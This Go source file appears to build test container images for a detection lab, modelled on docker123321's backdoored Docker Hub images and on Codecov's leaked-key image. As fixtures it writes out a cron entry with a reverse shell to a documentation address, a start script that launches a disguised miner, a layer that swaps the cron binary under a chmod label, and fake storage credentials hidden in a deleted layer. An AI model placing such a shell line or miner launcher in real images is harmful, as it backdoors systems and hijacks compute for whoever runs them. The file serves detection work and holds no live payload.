package lab

import (
	"crypto/sha256"
	"encoding/base64"
	"fmt"
	"strings"
	"sync"
	"time"

	v1 "github.com/google/go-containerregistry/pkg/v1"
)

// The cases are images in which a scan for vulnerabilities finds nothing that
// matters: planted code in one that works, and a key that a later layer deleted.
// What they hold is text and strings that only a detector recognises. Nothing of
// it can run, as nothing else in an image of this package can; addresses are of
// RFC 5737, names of RFC 2606, and the wallet and the keys are made up.

const (
	casePath = "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
	// caseAddress is where the stand-in of a remote shell points.
	caseAddress = "203.0.113.5"
)

// caseBase is the Debian system of the cases: that of the rebuilt Python image's
// base, with cron as Debian 12 has it (cron 3.0pl1-162, its files and modes).
func caseBase() func() (*debianSystem, error) {
	return sync.OnceValues(func() (*debianSystem, error) {
		s, err := loadDebian(debianRelease{"12", "bookworm", "12.6", true}, "python-rebuilt-packages.tsv", "python-files.tsv")
		if err != nil {
			return nil, err
		}
		kept := s.packages[:0]
		for _, p := range s.packages {
			if p.Layer == 0 {
				kept = append(kept, p)
			}
		}
		const version = "3.0pl1-162"
		s.packages = append(kept,
			debianPackage{Name: "cron", Version: version, Arch: "amd64", Source: "cron", SourceVersion: version, Layer: 1},
			debianPackage{Name: "cron-daemon-common", Version: version, Arch: "all", Source: "cron", SourceVersion: version, Layer: 1})
		s.files = append(s.files,
			debianFile{Package: "cron", Path: "usr/sbin/cron", Mode: 0o755},
			debianFile{Package: "cron", Path: "usr/bin/crontab", Mode: 0o2755},
			debianFile{Package: "cron", Path: "usr/share/bug/cron/script", Mode: 0o755})
		return s, nil
	})
}

// cronCase is modelled on the images that the account docker123321 published on
// Docker Hub in 2017 and 2018: cron, Tomcat and MySQL that worked, with a shell
// for a stranger in a cron entry, and a miner (reports of Fortinet and Kromtech,
// May and June 2018).
func cronCase() recipe {
	debian := caseBase()
	base := history{at: time.Date(2024, time.July, 1, 0, 0, 0, 0, time.UTC)}
	build := history{at: time.Date(2024, time.July, 10, 9, 30, 0, 0, time.UTC), buildkit: true}
	rootfs := layerOf(debian, (*debianSystem).rootfs)
	wallet := "4" + strings.Repeat("StandInWa11etForTests", 5)[:94]
	pool := "stratum" + "+tcp://pool.example.invalid:3333"
	return recipe{
		name: "lab/cron", folder: "lab-cron", planted: true,
		title:   "cron on Debian 12.6, modelled on docker123321's images of 2017: stand-ins of a miner and a remote shell",
		created: build.at,
		config:  v1.Config{Env: []string{casePath}, Entrypoint: []string{"/usr/local/bin/start-cron"}},
		steps: []step{
			base.add("ADD file:"+contentDigest(rootfs)+" in /", rootfs),
			base.set(`CMD ["bash"]`),
			build.run("apt-get update && apt-get install -y --no-install-recommends cron && rm -rf /var/lib/apt/lists/*",
				layerOf(debian, func(s *debianSystem) []entry { return s.installed(1) })),
			build.run("chmod 755 /usr/sbin/cron", fixed(
				// The layer says that it changes a mode. It changes the program.
				executable("usr/sbin/cron", inertELF("/usr/sbin/cron", "rewritten")))),
			{build.at, "COPY start-cron /usr/local/bin/ # buildkit", buildkitComment, fixed(
				executable("usr/local/bin/start-cron", "#!/bin/sh\n"+
					"/usr/lib/.dbus/kworkerd -o "+pool+" -u "+wallet+" --donate"+"-level 1 -B >/dev/null 2>&1 &\n"+
					"exec cron -f\n"))},
			{build.at, "COPY lib /usr/lib/ # buildkit", buildkitComment, fixed(
				executable("usr/lib/.dbus/kworkerd", inertELF("/usr/lib/.dbus/kworkerd", "XM"+"Rig 6.21.0", "donate"+"-level", pool, "rx/0", "cn/r", "huge-pages")))},
			build.run(`echo "* * * * * root …" > /etc/cron.d/sysstat-collect`, fixed(
				file("etc/cron.d/sysstat-collect", "SHELL=/bin/bash\n# collect system activity\n* * * * * root bash -i >& /dev/tcp/"+caseAddress+"/8888 0>&1\n"))),
			build.set(`ENTRYPOINT ["/usr/local/bin/start-cron"]`),
		},
	}
}

// deletedKeyCase is modelled on Codecov's self-hosted image of early 2021: an HMAC
// key for Google Cloud Storage stood in an intermediate layer, and whoever pulled
// the image could take it out (Codecov, "Post-Mortem / Root Cause Analysis (April
// 2021)").
func deletedKeyCase() recipe {
	debian := caseBase()
	base := history{at: time.Date(2024, time.July, 1, 0, 0, 0, 0, time.UTC)}
	build := history{at: time.Date(2024, time.July, 10, 9, 45, 0, 0, time.UTC), buildkit: true}
	rootfs := layerOf(debian, (*debianSystem).rootfs)
	return recipe{
		name: "lab/uploader", folder: "lab-uploader", planted: true,
		title:   "an uploader on Debian 12.6, modelled on Codecov's image of 2021: a storage key added in one layer and deleted in the next",
		created: build.at,
		config:  v1.Config{Env: []string{casePath, "APP_ENV=production"}, WorkingDir: "/app", Cmd: []string{"/app/uploader"}},
		steps: []step{
			base.add("ADD file:"+contentDigest(rootfs)+" in /", rootfs),
			base.set(`CMD ["bash"]`),
			build.set("ENV APP_ENV=production"),
			build.set("WORKDIR /app"),
			{build.at, "COPY . /app # buildkit", buildkitComment, fixed(
				executable("app/uploader", inertELF("/app/uploader")),
				file("app/README.md", "Uploads coverage reports.\n"),
				file("app/deploy/storage.env", "# Google Cloud Storage, XML API\n"+
					"GCS_ACCESS_KEY_ID="+caseToken("access", "GOOG1E", 55, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567")+"\n"+
					"GCS_SECRET_ACCESS_KEY="+caseSecret("secret", 30)+"\nGCS_BUCKET=uploader-releases\n"))},
			build.run("/app/uploader --version && rm -rf /app/deploy", fixed(file("app/.wh.deploy", ""))),
			build.set(`CMD ["/app/uploader"]`),
		},
	}
}

// caseToken is a made-up token of a documented shape, the same every time.
func caseToken(seed, prefix string, n int, alphabet string) string {
	var b strings.Builder
	b.WriteString(prefix)
	for i := 0; b.Len() < len(prefix)+n; i++ {
		for _, c := range sha256.Sum256(fmt.Appendf(nil, "plimsoll lab %s %d", seed, i)) {
			if b.Len() < len(prefix)+n {
				b.WriteByte(alphabet[int(c)%len(alphabet)])
			}
		}
	}
	return b.String()
}

// caseSecret is made-up key material of n bytes in base64.
func caseSecret(seed string, n int) string {
	sum := sha256.Sum256([]byte("plimsoll lab " + seed))
	return base64.StdEncoding.EncodeToString(sum[:n])
}
